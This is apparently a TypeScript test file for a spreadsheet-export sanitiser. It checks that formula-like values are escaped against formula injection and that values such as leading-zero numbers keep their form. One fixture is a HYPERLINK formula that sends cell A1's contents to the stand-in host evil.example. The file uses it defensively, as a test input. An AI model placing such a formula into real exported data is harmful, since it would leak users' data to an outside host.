import fc from 'fast-check';
import { expect, test } from 'vitest';
import { forSpreadsheet, fromSpreadsheet } from './spreadsheet-value.ts';

test('what would be calculated is shown instead', () => {
  for (const value of ['=1+1', '+49 351 1', '-5', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', "'=1+1"]) {
    expect(forSpreadsheet(value)).toBe(`'${value}`);
  }
});

test('so is what would be calculated once its quotes are taken off', () => {
  const link = '"=HYPERLINK(""https://evil.example/?""&A1;""OK"")"';
  for (const value of [link, '"+1"', `"'=1"`, `'"=1"`]) {
    expect(forSpreadsheet(value)).toBe(`'${value}`);
  }
});

test('what would lose its form keeps it', () => {
  const values = ['01665', '035198765', '12-14', '3/4', '012/5', '12.500', '24.12.', '1e5', '1E5'];
  for (const value of [...values, '1234567890123456']) {
    expect(forSpreadsheet(value)).toBe(`\t${value}`);
  }
});

test('texts, plain numbers and days stay as they are', () => {
  const values = [
    '',
    'Süddach',
    '12 b',
    '184,5',
    '2014',
    '0',
    '1971-02-28',
    '24.12.1970',
    '0351 98765',
    '0351 98765-12',
    '123456789012345',
    '0172 / 55 51 234',
    '50 m²',
    "'s Haus",
    '"Haus am Hang"',
    // A machine would try each way to split a long run in two, for a second.
    `${'1'.repeat(9_999)}e`,
  ];
  for (const value of values) expect(forSpreadsheet(value)).toBe(value);
});

test('nothing is lost on the way', () => {
  const parts = fc.constantFrom("'", '"', '=', '\t', '0', '1', '-', '@', ' ', 'x', '.');
  const nasty = fc.array(parts, { maxLength: 6 }).map((characters) => characters.join(''));
  fc.assert(
    fc.property(fc.oneof(nasty, fc.string()), (value) => {
      const cell = forSpreadsheet(value);
      return fromSpreadsheet(cell) === value && !/^[=+\-@\r＝＋－＠]/u.test(cell);
    }),
  );
});
